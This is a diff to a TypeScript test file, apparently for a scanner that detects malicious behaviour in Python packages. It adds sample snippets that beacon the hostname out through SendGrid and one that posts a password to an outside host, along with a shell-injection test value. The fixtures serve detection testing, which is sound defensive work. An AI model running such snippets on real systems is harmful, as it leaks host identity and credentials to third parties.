@@ -158,6 +158,8 @@ async function findings(code: string): Promise<string[]> {
   return found.map(({ check, severity, moment }) => `${check} ${severity} ${moment}`)
 }
 
+const MAIL = 'import socket, sendgrid\nfrom a.b import settings\nm = sendgrid.Mail(from_email=socket.gethostname())\n'
+
 const DEEDS: readonly [situation: string, code: string, finding: string][] = [
   [
     'every file that a person keeps is written over',
@@ -178,6 +180,16 @@ const DEEDS: readonly [situation: string, code: string, finding: string][] = [
     'its own name, which is looked up',
     'import socket\nsocket.gethostbyname(socket.gethostname())',
     'host-beacon low import',
+  ],
+  [
+    'its own name by a mail of whoever set the account',
+    `${MAIL}sendgrid.SendGridAPIClient(settings().key).send(m)`,
+    'host-beacon low import',
+  ],
+  [
+    'the same by an account that the module brings',
+    `${MAIL}sendgrid.SendGridAPIClient("SG.aaaaaaaaaaaaaaaaaaaa").send(m)`,
+    'host-beacon high import',
   ],
   [
     'a folder of extensions',
@@ -271,4 +283,16 @@ t.test('what a program is given as one word stays one, and what a shell is given
     ['subprocess.call("a; b")', 'a; b'],
   ]
   for (const [code, command] of commands) t.same(startedBy(code), [command], code)
+})
+
+const graded = async (domain: string): Promise<readonly string[]> => {
+  const code = `import requests\ndef login(password, host):\n    requests.post('https://%s.${domain}/soap' % host, data='<a xmlns="http://schemas.xmlsoap.invalid/a"><b>%s</b></a>' % password)\n`
+  const reading = readingOf('wheel', { 'a/__init__.py': 'from a import salesdesk\n', 'a/salesdesk.py': code })
+  const { findings: found } = await inspect(reading, { digest: sha256('x'), readAs: 'wheel' })
+  return found.flatMap(({ check, severity }) => (check === 'called-harm' ? severity : []))
+}
+
+t.test('a password for the service after which a module is named goes to no stranger', async (t) => {
+  t.same(await graded('salesdesk.invalid'), [])
+  t.same(await graded('keeper.invalid'), ['high'])
 })
